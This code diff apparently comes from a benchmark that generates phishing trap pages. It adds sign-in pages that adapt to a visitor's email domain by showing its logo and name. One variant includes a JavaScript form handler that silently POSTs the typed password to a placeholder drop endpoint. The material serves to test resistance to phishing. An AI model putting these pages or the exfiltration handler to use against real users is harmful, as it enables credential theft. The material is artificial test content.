@@ -2,7 +2,7 @@
 
 from collections.abc import Iterator
 
-from bench.pages.sites.development.template import BODY, PAINT, TRAP, page
+from bench.pages.sites.development.template import BODY, DROP, PAINT, TRAP, page
 from bench.pages.sites.site import Site, one, site
 
 _WHO = f"{PAINT}var who=location.hash.slice(1),host=who.split('@')[1]||'';"
@@ -56,8 +56,29 @@ def sites() -> Iterator[Site]:
         yield _trap("picture", variant, page("Sign in", script=_WHO + shows))
     both = "if(host){document.getElementById('logo').innerHTML='<img src=\"https://logo.clearbit.com/'+host+'\">';paint(who)}"
     yield _trap("picture", "logo, with names of its own", page("Sign in", BODY, _WHO + both))
+    yield from _named_after_hosts()
     where = "fetch('https://ipapi.co/json/').then(function(r){return r.json()}).catch(function(){return {}}).then(function(){paint(who)})"
     yield _trap("picture", "after where the visitor is", page("Sign in", BODY, _WHO + where))
+
+
+def _named_after_hosts() -> Iterator[Site]:
+    """The same below a name of the page's own, which is none: words, in the title alone, of a host that anybody
+    gets, or of one to which the password does not go.
+    """
+    logo = "if(host)x.src='https://logo.clearbit.com/'+host;"
+    away = f"document.forms[0].onsubmit=function(e){{e.preventDefault();fetch('{DROP}/p',{{method:'POST',body:secret.value}})}};"
+    for variant, host, heading, more in (
+        ("words of its host", "https://secure-mail-portal.test", "Secure mail portal", ""),
+        ("its host's name in the title alone", TRAP, "Sign in", ""),
+        ("its host's name, on a host of everybody's", "https://harbour-files.web.app", "Harbour files", ""),
+        ("its host's name, the password sent elsewhere", TRAP, "Victim site", away),
+    ):
+        title = "Victim site" if host == TRAP else heading
+        body = "<img id=x width=120 height=60 alt=''>" + BODY.replace("<h1>Sign in", f"<h1>{heading}")
+        yield site(
+            "asks for the picture", f"logo, {variant}", "trap",
+            one(f"{host}/mail/#{{}}", page(title, body, f"{_WHO}{logo}{more}")), adapts=True,
+        )  # fmt: skip
 
 
 def _trap(what: str, variant: str, source: str) -> Site:
